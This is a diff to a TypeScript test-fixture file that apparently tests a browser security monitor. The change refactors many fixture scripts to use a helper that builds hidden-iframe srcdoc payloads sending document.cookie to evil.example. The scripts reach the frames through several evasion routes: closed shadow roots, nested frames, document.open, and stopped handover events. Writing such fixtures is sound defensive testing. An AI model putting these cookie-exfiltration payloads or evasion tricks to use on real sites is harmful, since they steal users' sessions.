@@ -121,6 +121,13 @@ export const srcdocWidgetPage = (flag: string, scripts = ''): string =>
   `<iframe title="branches" srcdoc="${srcdocWidgetMarkup(flag).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>` +
   `${scripts}</body></html>`;
 
+/**
+ * A srcdoc (as a JS string literal, for a fixture's code) whose own script sends the cookie to evil.example's `path`
+ * before the frame's load: the handover cases (sensors-main-tamper.e2e.ts, "still hooks a frame's realm").
+ */
+const srcdocSendingCookie = (path: string): string =>
+  `'<body><script>fetch("https://evil.example/${path}?c=" + encodeURIComponent(document.cookie))<\\/script>'`;
+
 export const MAIN_WORLD_SCRIPTS = {
   /**
    * Scripts inserted empty and given their code afterwards, each a way that ran unreported: an address written
@@ -1478,7 +1485,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const frame = document.createElement('iframe');
   frame.style.display = 'none';
   document.body.appendChild(frame);
-  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-in-page?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-in-page')};
 })();`,
 
   /** The same, the frame in a closed shadow root (made by markup): its frame element is out of the document's reach. */
@@ -1487,7 +1494,7 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(host);
   const root = host.attachShadow({ mode: 'closed' });
   root.innerHTML = '<iframe style="display:none"></iframe>';
-  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-in-shadow?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  root.firstChild.srcdoc = ${srcdocSendingCookie('srcdoc-given-in-shadow')};
 })();`,
 
   /** The same one frame down: a frame inside a same-origin frame given its srcdoc once both are in place. */
@@ -1498,7 +1505,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const doc = window[window.length - 1].document;
   const inner = doc.createElement('iframe');
   doc.body.appendChild(inner);
-  inner.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-nested?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  inner.srcdoc = ${srcdocSendingCookie('srcdoc-given-nested')};
 })();`,
 
   /** The same after document.open() on the outer frame's document, which erases the listeners of its window too. */
@@ -1510,7 +1517,7 @@ export const MAIN_WORLD_SCRIPTS = {
   doc.open();
   doc.write('<iframe></iframe>');
   doc.close();
-  doc.querySelector('iframe').srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-reopened?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  doc.querySelector('iframe').srcdoc = ${srcdocSendingCookie('srcdoc-given-reopened')};
 })();`,
 
   /**
@@ -1529,7 +1536,7 @@ export const MAIN_WORLD_SCRIPTS = {
     doc.close();
     const inner = doc.createElement('iframe');
     doc.body.appendChild(inner);
-    inner.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-rewritten?c=" + encodeURIComponent(document.cookie))<\\/script>';
+    inner.srcdoc = ${srcdocSendingCookie('ready-stopped-rewritten')};
   }, 200);
 })();`,
 
@@ -1540,7 +1547,7 @@ export const MAIN_WORLD_SCRIPTS = {
   host.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
   const root = host.attachShadow({ mode: 'closed' });
   root.innerHTML = '<iframe style="display:none"></iframe>';
-  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-host?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  root.firstChild.srcdoc = ${srcdocSendingCookie('ready-stopped-at-host')};
 })();`,
 
   /** A srcdoc given to a frame in a closed shadow root whose root stops the handover's event (capture, added first). */
@@ -1550,7 +1557,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const root = host.attachShadow({ mode: 'closed' });
   root.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
   root.innerHTML = '<iframe style="display:none"></iframe>';
-  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-root?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  root.firstChild.srcdoc = ${srcdocSendingCookie('ready-stopped-at-root')};
 })();`,
 
   /** A srcdoc given to a frame in the page, the handover's event stopped at the window, document and frame (added after Saq's). */
@@ -1560,7 +1567,7 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.style.display = 'none';
   for (const target of [window, document, frame]) target.addEventListener('saq:frame-ready/v1', stop, true);
   document.body.appendChild(frame);
-  frame.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-in-page?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  frame.srcdoc = ${srcdocSendingCookie('ready-stopped-in-page')};
 })();`,
 
   /** A loaded srcdoc frame sent to a javascript: URL whose result is markup: a new document, its script sending. */
@@ -1587,7 +1594,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const doc = window[window.length - 1].document;
   const frame = document.createElement('iframe');
   document.body.appendChild(frame);
-  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-moved?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-moved')};
   doc.body.appendChild(doc.adoptNode(frame));
 })();`,
 
@@ -1609,7 +1616,7 @@ export const MAIN_WORLD_SCRIPTS = {
       try { fresh = proxy.Function !== old; } catch {}
       if (!fresh) return void setTimeout(poll, 0);
       const set = proxy.Object.getOwnPropertyDescriptor(proxy.HTMLIFrameElement.prototype, 'srcdoc').set;
-      set.call(target, '<body><script>fetch("https://evil.example/srcdoc-through-polled-shop-frame?c=" + encodeURIComponent(document.cookie))<\\/script>');
+      set.call(target, ${srcdocSendingCookie('srcdoc-through-polled-shop-frame')});
     };
     poll();
   };
@@ -1687,7 +1694,7 @@ export const MAIN_WORLD_SCRIPTS = {
   frame.style.display = 'none';
   frame.sandbox = 'allow-scripts allow-same-origin';
   document.body.appendChild(frame);
-  frame.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-sandboxed?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  frame.srcdoc = ${srcdocSendingCookie('srcdoc-given-sandboxed')};
 })();`,
 
   /** A srcdoc given to a frame inside a same-origin frame that is itself in a closed shadow root. */
@@ -1699,7 +1706,7 @@ export const MAIN_WORLD_SCRIPTS = {
   const doc = root.firstChild.contentDocument;
   const inner = doc.createElement('iframe');
   doc.body.appendChild(inner);
-  inner.srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-shadow-nested?c=" + encodeURIComponent(document.cookie))<\\/script>';
+  inner.srcdoc = ${srcdocSendingCookie('srcdoc-given-shadow-nested')};
 })();`,
 
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
